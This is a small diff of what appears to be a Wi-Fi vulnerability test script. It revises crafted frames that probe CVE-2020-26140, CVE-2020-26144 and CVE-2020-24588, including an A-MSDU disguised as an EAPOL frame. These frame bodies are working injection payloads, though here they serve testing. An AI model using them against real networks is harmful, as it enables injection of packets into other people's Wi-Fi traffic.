@@ -65,7 +65,8 @@ say("Clear data once keys are there.")
 try("CVE-2020-26140, to her", data{to=ALICE, body=PING})
 try("CVE-2020-26140, to all", data{to=ALL, body=PING})
 try("CVE-2020-26144, an A-MSDU that begins like EAPOL",
-    data{to=ALICE, qos=0x80, body=EAPOL .. "0000" .. "001c" .. PING})
+    data{to=ALICE, qos=0x80, body=EAPOL .. "00000000" .. "000a" ..
+                                  "aaaa0300000088b50000" .. ALICE .. WIRE .. "0024" .. PING})
 try("CVE-2020-24588, an A-MSDU", data{to=ALICE, qos=0x80, body=ALICE .. WIRE .. "0024" .. PING})
 
 say("In fragments.")
